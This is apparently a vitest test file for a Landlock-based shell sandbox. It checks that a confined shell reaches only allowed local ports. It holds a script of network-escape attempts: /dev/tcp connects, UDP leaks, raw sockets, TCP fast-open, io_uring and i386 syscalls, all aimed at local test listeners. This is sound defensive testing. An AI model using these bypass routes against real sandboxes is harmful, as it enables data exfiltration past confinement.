import { execFileSync, spawn, type ChildProcess } from 'node:child_process';
import { createSocket, type Socket as UdpSocket } from 'node:dgram';
import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { connect, createServer, type AddressInfo, type Server } from 'node:net';
import { networkInterfaces } from 'node:os';
import { join } from 'node:path';
import { randomBytes } from 'node:crypto';
import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest';
import { tempDir } from '../../helpers/temp';
import { abi, attackWorld, networkGap, type AttackWorld } from './attack-world';

// Part 1 of issue 25: a confined shell sends a secret nowhere. Attackers listen on this machine
// (127.0.0.1 on an unlisted port, a non-loopback address of this machine on the allowed port's
// number) and, as root, on a second host: a network namespace behind a veth pair, listening on
// the allowed port's number too, since Landlock's rules name ports, not addresses. Each attack is
// first shown working from an unconfined shell; under the launcher with connectPorts [allowed]
// only 127.0.0.1:allowed answers, and not one packet goes out on the veth.

const ROOT = process.getuid?.() === 0;
const HAS_IP = existsSync('/usr/sbin/ip') || existsSync('/sbin/ip') || existsSync('/usr/bin/ip');
/** How long an attack waits on a connect that gets no answer (a SYN dropped on loopback). */
const STALL_S = 2;
/** The interpreter itself, not a version manager's shim (which costs seconds per start here). */
const PYTHON = execFileSync('python3', ['-c', 'import sys; print(sys.executable)'], {
  encoding: 'utf8',
}).trim();

interface Listener {
  port: number;
  close(): Promise<void>;
}

/** A TCP server answering every connection with `reply` and recording what it was sent. */
async function tcpAttacker(
  host: string,
  reply: string,
  port = 0,
): Promise<Listener & { got: string[] }> {
  const got: string[] = [];
  const server: Server = createServer((c) => {
    c.on('data', (d) => got.push(String(d)));
    c.on('error', () => {});
    c.end(`${reply}\n`);
  });
  await new Promise<void>((resolve, reject) => {
    server.once('error', reject);
    server.listen(port, host, () => resolve());
  });
  return {
    port: (server.address() as AddressInfo).port,
    got,
    close: () => new Promise((r) => server.close(() => r())),
  };
}

async function udpAttacker(): Promise<Listener & { got: string[] }> {
  const got: string[] = [];
  const sock: UdpSocket = createSocket('udp4');
  sock.on('message', (m) => got.push(String(m)));
  await new Promise<void>((r) => sock.bind(0, '127.0.0.1', () => r()));
  return {
    port: sock.address().port,
    got,
    close: () => new Promise((r) => sock.close(() => r())),
  };
}

/** This machine's first non-loopback IPv4 address, if it has one. */
function lanAddress(): string | null {
  for (const list of Object.values(networkInterfaces()))
    for (const a of list ?? []) if (a.family === 'IPv4' && !a.internal) return a.address;
  return null;
}

/**
 * A second host: a network namespace behind a veth pair (root and iproute2 only), running a TCP
 * and UDP server on `port`. Its `sent()` counts the packets this side put on the veth.
 */
interface RemoteHost {
  address: string;
  log: string;
  /** Resolves once the server listens. */
  ready: Promise<void>;
  sent(): number;
  dispose(): void;
}

function remoteHost(port: number, dir: string): RemoteHost {
  const id = randomBytes(3).toString('hex');
  const ns = `mewbo-nj-${id}`;
  const near = `mnj${id}a`;
  const far = `mnj${id}b`;
  const net = `10.${200 + (parseInt(id.slice(0, 2), 16) % 50)}.${parseInt(id.slice(2, 4), 16)}`;
  const ip = (...args: string[]) => execFileSync('ip', args, { stdio: 'pipe' });
  ip('netns', 'add', ns);
  ip('link', 'add', near, 'type', 'veth', 'peer', 'name', far);
  // No IPv6 on the pair: router solicitations would count as packets nobody sent.
  writeFileSync(`/proc/sys/net/ipv6/conf/${near}/disable_ipv6`, '1');
  ip('link', 'set', far, 'netns', ns);
  ip('addr', 'add', `${net}.1/30`, 'dev', near);
  ip('link', 'set', near, 'up');
  ip(
    'netns',
    'exec',
    ns,
    'sh',
    '-c',
    `ip addr add ${net}.2/30 dev ${far} && ip link set ${far} up && ip link set lo up`,
  );
  // A permanent neighbour: no ARP probe (sent a few seconds after any traffic) counts as a packet.
  const mac = execFileSync('ip', ['netns', 'exec', ns, 'cat', `/sys/class/net/${far}/address`], {
    encoding: 'utf8',
  }).trim();
  ip('neigh', 'replace', `${net}.2`, 'lladdr', mac, 'dev', near, 'nud', 'permanent');
  const log = join(dir, `remote-${id}.log`);
  const server: ChildProcess = spawn(
    'ip',
    [
      'netns',
      'exec',
      ns,
      'python3',
      '-c',
      `import socket, threading
log = open(${JSON.stringify(log)}, 'a', buffering=1)
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.bind(('0.0.0.0', ${port}))
def udp():
    while True:
        m, _ = u.recvfrom(100); log.write('udp ' + m.decode() + '\\n')
threading.Thread(target=udp, daemon=True).start()
t = socket.socket(); t.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); t.bind(('0.0.0.0', ${port})); t.listen()
print('ready', flush=True)
while True:
    c, _ = t.accept(); log.write('tcp\\n'); c.sendall(b'REMOTE-HOST-REPLY\\n'); c.close()`,
    ],
    { stdio: ['ignore', 'pipe', 'inherit'] },
  );
  const ready = new Promise<void>((r) => server.stdout!.once('data', () => r()));
  return {
    address: `${net}.2`,
    log,
    ready,
    sent: () => Number(readFileSync(`/sys/class/net/${near}/statistics/tx_packets`, 'utf8')),
    dispose() {
      server.kill('SIGKILL');
      try {
        ip('netns', 'del', ns); // takes the pair with it
      } catch {
        // already gone
      }
    },
  };
}

/** A 64-bit program making the i386 socket() (number 359) through int 0x80. */
const I386_SOCKET_C = `#include <stdio.h>
int main(void) {
  long fd;
  __asm__ volatile("int $0x80" : "=a"(fd) : "a"(359L), "b"(2L), "c"(2L), "d"(0L) : "memory");
  printf("I386-SOCKET %ld\\n", fd);
  return 0;
}
`;

/** The attacks, one per line; each prints its marker only when it got through. */
function attackScript(t: {
  allowed: number;
  unlisted: number;
  udp: number;
  lan: string | null;
  remote: string | null;
  i386: string | null;
}): string {
  const py = (code: string) => `${PYTHON} -c ${JSON.stringify(code)} 2>&1 | tail -1`;
  const connectTo = (host: string, port: number) =>
    `import socket; s = socket.socket(); s.settimeout(${STALL_S}); s.connect(('${host}', ${port})); print(s.recv(64).decode().strip())`;
  const lines = [
    `(exec 3<>/dev/tcp/127.0.0.1/${t.unlisted}; head -1 <&3) 2>&1 | sed 's/^/bash-dev-tcp: /'`,
    `${JSON.stringify(process.execPath)} -e "const s=require('net').connect(${t.unlisted},'127.0.0.1');s.on('data',d=>{console.log('node-net: '+String(d).trim());process.exit()});s.on('error',e=>{console.log('node-net: '+e.code);process.exit()})"`,
    py(connectTo('127.0.0.1', t.unlisted)),
    py(
      `import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b'UDP-LEAK', ('127.0.0.1', ${t.udp})); print('UDP-SENT')`,
    ),
    py(
      `import socket; s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP); print('RAW-OPENED')`,
    ),
    // Blocking (no timeout): a fast-open sendto then connects before it returns.
    py(
      `import socket; s = socket.socket(); s.sendto(b'FASTOPEN', socket.MSG_FASTOPEN, ('127.0.0.1', ${t.unlisted})); print(s.recv(64).decode().strip())`,
    ),
    py(
      `import ctypes; libc = ctypes.CDLL(None, use_errno=True); p = ctypes.create_string_buffer(120); fd = libc.syscall(425, 4, p); print('IO-URING-FD' if fd >= 0 else 'io_uring refused: errno %d' % ctypes.get_errno())`,
    ),
    py(
      `import socket; s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b''); print('UNBOUND-FROM-LO')`,
    ),
    py(connectTo('127.0.0.1', t.allowed)),
  ];
  if (t.lan) lines.push(py(connectTo(t.lan, t.allowed)));
  if (t.remote) {
    lines.push(py(connectTo(t.remote, t.allowed)));
    lines.push(
      py(
        `import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b'UDP-REMOTE', ('${t.remote}', ${t.allowed})); print('UDP-REMOTE-SENT')`,
      ),
    );
  }
  if (t.i386) lines.push(`${t.i386} 2>&1 || echo "i386: status $?"`);
  lines.push('echo end');
  return lines.join('\n');
}

// Landlock ABI 4 (Linux 6.7) is where the network can be confined; from there on the probe must
// say it can (seccomp user notification and ADDFD came in 5.0 and 5.14), or the test fails.
describe.runIf(abi >= 4)(
  'network: a confined shell reaches only the ports it is given, on this machine',
  () => {
    const scratch = tempDir('mewbo-netjail-');
    let proxy: Awaited<ReturnType<typeof tcpAttacker>>;
    let local: Awaited<ReturnType<typeof tcpAttacker>>;
    let udp: Awaited<ReturnType<typeof udpAttacker>>;
    let lan: Awaited<ReturnType<typeof tcpAttacker>> | null = null;
    let remote: RemoteHost | null = null;
    let i386: string | null = null;
    let w: AttackWorld | undefined;

    beforeAll(async () => {
      proxy = await tcpAttacker('127.0.0.1', 'PROXY-REPLY');
      local = await tcpAttacker('127.0.0.1', 'LOCAL-ATTACKER-REPLY');
      udp = await udpAttacker();
      const address = lanAddress();
      // The allowed port's number on another address of this machine.
      if (address) lan = await tcpAttacker(address, 'LAN-ATTACKER-REPLY', proxy.port);
      if (ROOT && HAS_IP) {
        remote = remoteHost(proxy.port, scratch.dir);
        await remote.ready;
      }
      // Only where 32-bit calls work at all: without gcc, or on a kernel or hypervisor without
      // IA-32 emulation (int 0x80 is then a SIGSEGV), there is no such route to close.
      try {
        const bin = join(scratch.dir, 'i386');
        writeFileSync(`${bin}.c`, I386_SOCKET_C);
        execFileSync('gcc', ['-o', bin, `${bin}.c`]);
        if (/I386-SOCKET [0-9]+/.test(execFileSync(bin, { encoding: 'utf8' }))) i386 = bin;
      } catch {
        i386 = null;
      }
    });
    afterEach(async () => {
      await w?.dispose();
      w = undefined;
    });
    afterAll(async () => {
      remote?.dispose();
      await Promise.all([proxy, local, udp, lan].map((l) => l?.close()));
      scratch.cleanup();
    });

    const script = () =>
      attackScript({
        allowed: proxy.port,
        unlisted: local.port,
        udp: udp.port,
        lan: lan ? lanAddress() : null,
        remote: remote?.address ?? null,
        i386,
      });

    test("the launcher's probe can confine the network on this kernel", () => {
      expect(networkGap).toBeNull();
    });

    test('unprotected: an unconfined shell reaches every attacker, by every route', async () => {
      w = attackWorld({ shell_sandbox: false });
      const out = await w.run(script(), { timeoutMs: 60_000 });
      expect(out).toContain('bash-dev-tcp: LOCAL-ATTACKER-REPLY');
      expect(out).toContain('node-net: LOCAL-ATTACKER-REPLY');
      // python connect and the fast-open sendto each got the attacker's reply
      expect(out.match(/^LOCAL-ATTACKER-REPLY$/gm)).toHaveLength(2);
      expect(out).toContain('UDP-SENT');
      await expect.poll(() => udp.got, { timeout: 10_000 }).toContain('UDP-LEAK');
      expect(local.got.join('')).toContain('FASTOPEN');
      expect(out).toContain('IO-URING-FD');
      expect(out).toContain('PROXY-REPLY');
      if (ROOT) expect(out).toContain('RAW-OPENED');
      if (ROOT) expect(out).toContain('UNBOUND-FROM-LO');
      if (lan) expect(out).toContain('LAN-ATTACKER-REPLY');
      if (remote) {
        expect(out).toContain('REMOTE-HOST-REPLY');
        await expect
          .poll(() => readFileSync(remote!.log, 'utf8'), { timeout: 10_000 })
          .toContain('udp UDP-REMOTE');
      }
      if (i386) expect(out).toMatch(/I386-SOCKET [0-9]+/);
    });

    test('protected: only 127.0.0.1 on the given port answers; not one packet leaves for the other host', async () => {
      w = attackWorld({}, { network: { connectPorts: [proxy.port] } });
      udp.got.length = 0;
      local.got.length = 0;
      const remoteLogBefore = remote ? readFileSync(remote.log, 'utf8') : '';
      const sentBefore = remote?.sent() ?? 0;
      const out = await w.run(script(), { timeoutMs: 60_000 });
      expect(out).toContain('end');
      expect(out).toContain('PROXY-REPLY');
      for (const leak of [
        'LOCAL-ATTACKER-REPLY',
        'UDP-SENT',
        'RAW-OPENED',
        'IO-URING-FD',
        'UNBOUND-FROM-LO',
        'LAN-ATTACKER-REPLY',
        'REMOTE-HOST-REPLY',
        'UDP-REMOTE-SENT',
        'I386-SOCKET',
      ])
        expect(out).not.toContain(leak);
      expect(out).toMatch(/bash-dev-tcp: .*connect: Permission denied/);
      expect(out).toContain('node-net: EACCES');
      expect(out).toMatch(/io_uring refused: errno 1\b/);
      if (i386) expect(out).toMatch(/i386: status 159|Bad system call/);
      expect(udp.got).toEqual([]);
      expect(local.got).toEqual([]);
      if (remote) {
        expect(readFileSync(remote.log, 'utf8')).toBe(remoteLogBefore);
        expect(remote.sent()).toBe(sentBefore);
      }
    });

    test('a confined dev server still listens, and this machine reaches it', async () => {
      w = attackWorld({}, { network: { connectPorts: [proxy.port] } });
      const shell = await w.shells.start({
        command: `${PYTHON} -c "import socket; s = socket.socket(); s.bind(('127.0.0.1', 0)); s.listen(); print('PORT', s.getsockname()[1], flush=True); c, _ = s.accept(); c.sendall(b'DEV-SERVER'); c.close()"`,
        cwd: w.root,
        root: w.root,
        config: w.config,
        tty: false,
      });
      if ('kind' in shell) throw new Error(shell.message);
      const port = () => Number(/PORT (\d+)/.exec(shell.buffer.read(0).text)?.[1] ?? 0);
      await expect.poll(port, { timeout: 30_000 }).toBeGreaterThan(0);
      const reply = await new Promise<string>((resolve, reject) => {
        const s = connect(port(), '127.0.0.1');
        let data = '';
        s.on('data', (d) => (data += String(d)));
        s.on('end', () => resolve(data));
        s.on('error', reject);
      });
      expect(reply).toBe('DEV-SERVER');
    });

    test('the status of a confined spawn names the ports; with confinement off it says the network is open', async () => {
      w = attackWorld({}, { network: { connectPorts: [proxy.port, proxy.port] } });
      expect(await w.service.sandboxStatus()).toMatchObject({
        mode: 'landlock',
        network: { mode: 'proxy', connect_ports: [proxy.port] },
      });
      await w.dispose();
      w = attackWorld({}, { config: { sandbox: { network: { confine: false } } } });
      expect(await w.service.sandboxStatus()).toMatchObject({
        mode: 'landlock',
        network: { mode: 'open', reason: expect.stringMatching(/no egress proxy/) },
      });
      expect(await w.run(`(exec 3<>/dev/tcp/127.0.0.1/${local.port}; head -1 <&3)`)).toContain(
        'LOCAL-ATTACKER-REPLY',
      );
    });
  },
);
